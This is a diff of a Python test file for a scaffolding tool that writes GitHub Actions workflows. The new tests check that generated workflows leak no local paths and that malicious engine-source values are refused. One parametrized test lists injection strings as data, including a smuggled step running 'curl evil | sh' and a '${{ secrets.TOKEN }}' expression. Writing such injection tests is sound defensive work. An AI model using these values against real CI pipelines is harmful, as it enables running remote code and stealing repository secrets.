@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 import subprocess
 import sys
@@ -112,9 +113,47 @@ def test_issue13_engine_source_defaults_to_where_this_engine_came_from(tmp_path)
     from hkk._scaffold import engine_source
 
     here = engine_source()
-    root = Path(__file__).resolve().parents[1]
-    assert here == "" or here.startswith("git+") or Path(here).resolve() == root
-    assert placeholders("zold")["engine_source"] == here
+    assert here == "" or here.startswith("git+")
+    assert placeholders("zold")["engine_source"] == json.dumps(here)
+
+
+def test_issue24_6_the_default_workflow_holds_no_path_of_this_machine(tmp_path):
+    import yaml
+
+    from hkk._scaffold import local_engine_folder
+
+    project = create("helyi", tmp_path)
+    text = (project / ".github" / "workflows" / "ci.yml").read_text()
+    source = yaml.safe_load(text)["env"]["HKK_SOURCE"]
+    assert source == "" or source.startswith("git+")
+    local = local_engine_folder()
+    if local:  # this checkout is installed editable (as the README's commands do)
+        assert local not in text and str(Path(__file__).resolve().parents[1]) not in text
+
+
+@pytest.mark.parametrize("source", ['x"\n  - run: curl evil | sh\n  X: "',
+                                    "${{ secrets.TOKEN }}", "a\x1b[2Jb", "--index-url=http://x"])
+def test_issue24_6_an_engine_source_that_would_inject_a_step_is_refused(tmp_path, source):
+    from click.testing import CliRunner
+
+    from hkk.cli import main
+
+    with pytest.raises(ScaffoldError, match="--engine-source"):
+        create("bevitel", tmp_path, source=source)
+    result = CliRunner().invoke(main, ["new-set", "bevitel", "--dir", str(tmp_path),
+                                       "--engine-source", source])
+    assert result.exit_code == 2 and "--engine-source" in result.output
+    assert not (tmp_path / "hkk-set-bevitel").exists()
+
+
+def test_issue24_6_quotes_and_backslashes_in_an_engine_source_stay_text(tmp_path):
+    import yaml
+
+    source = 'C:\\hkk "forras"'
+    project = create("idezet", tmp_path, source=source)
+    flow = yaml.safe_load((project / ".github" / "workflows" / "ci.yml").read_text())
+    assert flow["env"] == {"HKK_SOURCE": source}
+    assert [s.get("name") for s in flow["jobs"]["verify"]["steps"]][-1] == "Keep the verify report"
 
 
 def test_issue13_an_installed_set_code_is_refused(tmp_path):
